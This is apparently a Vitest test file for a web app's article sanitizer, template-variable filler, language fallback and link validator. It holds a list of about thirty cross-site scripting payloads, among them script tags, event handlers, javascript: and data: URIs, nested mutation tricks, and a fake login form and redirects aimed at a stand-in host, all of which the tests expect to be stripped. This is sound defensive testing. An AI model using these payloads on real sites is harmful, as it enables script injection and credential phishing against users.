import { describe, expect, it } from 'vitest';
import {
  fillVariables,
  isSafeLink,
  nearestLanguage,
  sanitizeArticle,
} from '../../../../src/server/modules/content/article.rules';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" onclick=alert(1)>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<body onload=alert(1)><details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><script>alert(1)</script></template>',
  '<h2 id="location" name="cookie">x</h2>',
  '<p constructor="1" __proto__="2" dir="up" lang="x y">x</p>',
  '<p class="modal" data-x="1" tabindex=0 autofocus onfocus=alert(1)>x</p>',
];

describe('sanitizeArticle', () => {
  it.each(PAYLOADS)('takes what runs, loads or deceives out of %s', (payload) => {
    const clean = sanitizeArticle(`<p>before</p>${payload}<p>after</p>`);
    expect(clean).not.toMatch(
      /<(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio|template|textarea|noscript|body|!--)/i,
    );
    expect(clean).not.toMatch(/<[^>]*\s(on\w+|style|class|id|name|srcdoc|data-x|tabindex)\s*=/i);
    expect(clean).not.toMatch(/(href|src)="?\s*(javascript|vbscript|data|\/\/)/i);
    expect(clean).toMatch(/^<p>before<\/p>/);
    // cleaning again changes nothing: what is stored is what is shown
    expect(sanitizeArticle(clean)).toBe(clean);
  });

  it('keeps the marks that articles are written with', () => {
    const html =
      '<h2 id="privacy">Title</h2><p>Text <strong>bold</strong><br />line</p><ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>b</td><td>c</td></tr></tbody></table>' +
      '<a href="mailto:a@b.example">mail</a><a href="/faq">faq</a>';
    expect(sanitizeArticle(html)).toBe(html);
  });

  it('opens other sites apart and loads pictures late', () => {
    expect(sanitizeArticle('<a href="https://a.example" rel="opener">x</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeArticle('<img src="/api/media/a.webp" alt="a" />')).toBe(
      '<img src="/api/media/a.webp" alt="a" loading="lazy" />',
    );
    expect(sanitizeArticle('<h1>One</h1>')).toBe('<h2>One</h2>');
  });
});

describe('fillVariables', () => {
  it('fills what it knows and leaves the rest', () => {
    expect(fillVariables('{{a}} {{ a }} {{b}} {{toString}} {{}}', { a: '1' })).toBe('1 1 {{b}} {{toString}} {{}}');
  });
  it('does not fill a value again', () => {
    expect(fillVariables('{{a}}', { a: '{{b}} $& $1', b: '2' })).toBe('{{b}} $& $1');
  });
});

describe('nearestLanguage', () => {
  it('falls back in order', () => {
    expect(nearestLanguage(['ru', 'en'], 'ru2', 'en')).toBe('ru');
    expect(nearestLanguage(['zh-CN', 'en'], 'zh-HK', 'en')).toBe('zh-CN');
    expect(nearestLanguage(['en', 'ko'], 'th', 'ko')).toBe('ko');
    expect(nearestLanguage(['uz'], 'th', 'ko')).toBe('uz');
    expect(nearestLanguage([], 'th', 'ko')).toBeUndefined();
  });
});

describe('isSafeLink', () => {
  it.each(['/', '/product-search?keyword=a%20b', 'https://a.example/x'])('takes %s', (link) =>
    expect(isSafeLink(link)).toBe(true),
  );
  it.each(['', '//a', '/\\a', 'javascript:1', 'http://a.example', 'a', '/a b', '/a\\b'])('refuses %s', (link) =>
    expect(isSafeLink(link)).toBe(false),
  );
});
